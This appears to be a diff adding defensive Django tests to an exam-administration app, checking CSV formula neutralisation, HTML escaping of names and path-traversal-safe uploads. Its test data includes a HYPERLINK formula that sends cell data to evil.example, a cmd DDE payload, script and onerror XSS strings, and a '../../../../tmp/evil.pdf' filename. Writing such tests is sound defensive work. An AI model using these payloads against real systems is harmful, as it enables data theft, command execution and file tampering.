@@ -639,3 +639,85 @@ def test_bad_input_is_refused_in_words_and_changes_nothing(ctx, name):
 def test_the_corpus_has_at_least_fifty_cases():
     kinds = {n.split("_")[0] for n in CASES}
     assert len(CASES) >= 50 and kinds >= {"dataset", "results", "upload", "form"}
+
+
+# ---------------------------------------------------------------------- what is already in the database ----
+# Records written before the checks above (or through the admin) may still hold markup or a formula: the pages
+# escape it and every CSV export neutralises it.
+HOSTILE = {"last_name": '=HYPERLINK("http://evil.example/?"&A1,"Peeters")', "first_name": "@SUM(1+1)*cmd|' /C calc'!A0"}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def exports(world) -> dict[str, str]:
+    w = world
+    return {
+        "students": reverse("students:list") + "?format=csv",
+        "appeals": reverse("appeals:appeal_list") + "?format=csv",
+        "irregularities": reverse("examinations:irregularity_list") + "?format=csv",
+        "appeals pool": reverse("appeals:committee_pool") + "?format=csv",
+        "results grid": reverse("examinations:results_grid", args=[w.own_unit.code, w.year.code, w.own_period.code])
+        + "?format=csv",
+    }
+
+
+def test_every_csv_export_neutralises_formulas(world, db):
+    import csv
+
+    from django.contrib.auth import get_user_model
+
+    from appeals.models import PoolMember
+    from students.models import Student
+
+    Student.objects.update(**HOSTILE)
+    PoolMember.objects.update(faculty="+1+2")
+    get_user_model().objects.filter(username__startswith="appeals").update(first_name="-2+3", last_name="=1")
+    client = Client()
+    client.force_login(world.users["admin"])
+    for name, url in exports(world).items():
+        response = client.get(url)
+        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), name
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert cells, f"{name}: the export is empty, so it shows nothing"
+        formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+        assert not formulas, f"{name} exports cells a spreadsheet would run: {formulas[:5]}"
+        assert any(cell.startswith("'=") or cell.startswith("'@") or cell.startswith("'+") for cell in cells), name
+
+
+def test_markup_in_a_name_is_shown_as_text(world, db):
+    from students.models import Student
+
+    Student.objects.filter(pk=world.student.pk).update(last_name="<script>alert(1)</script>",
+                                                        first_name='<img src=x onerror="alert(2)">')
+    client = Client()
+    client.force_login(world.users["admin"])
+    for url in (reverse("students:list"), reverse("students:detail", args=[world.student.number]),
+                reverse("examinations:results_student", args=[world.student.number]),
+                reverse("examinations:meeting_deliberation", args=[world.meeting.pk])):
+        content = client.get(url).content.decode()
+        assert "<script>alert(1)" not in content and "<img src=x" not in content, url
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content, url
+
+
+def test_an_uploaded_file_keeps_only_its_name_and_stays_in_the_private_storage(world, db):
+    """A browser's multipart request cannot place a file elsewhere: Django keeps the last part of the name, and
+    the storage writes under PRIVATE_MEDIA_ROOT only."""
+    from appeals.models import EvidenceDocument
+
+    client = Client()
+    client.force_login(world.users["appeals"])
+    boundary = "----eel-boundary"
+    # Written by hand: Django's test client would already drop the folders from the file name.
+    body = "".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
+                   for k, v in {"title": "Evidence", "received_on": TODAY.isoformat()}.items()).encode()
+    body += (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="../../../../tmp/evil.pdf"\r\n'
+             f"Content-Type: application/pdf\r\n\r\n").encode() + TINY_PDF + b"unique\r\n"
+    body += f"--{boundary}--\r\n".encode()
+    before = EvidenceDocument.objects.count()
+    client.post(reverse("appeals:appeal_document_add", args=[world.excluded_appeal.pk]), data=body,
+                content_type=f"multipart/form-data; boundary={boundary}")
+    assert EvidenceDocument.objects.count() == before + 1
+    doc = EvidenceDocument.objects.order_by("-pk").first()
+    assert doc.original_name == "evil.pdf"
+    path = (settings.PRIVATE_MEDIA_ROOT / doc.file.name).resolve()
+    assert path.is_file() and settings.PRIVATE_MEDIA_ROOT.resolve() in path.parents
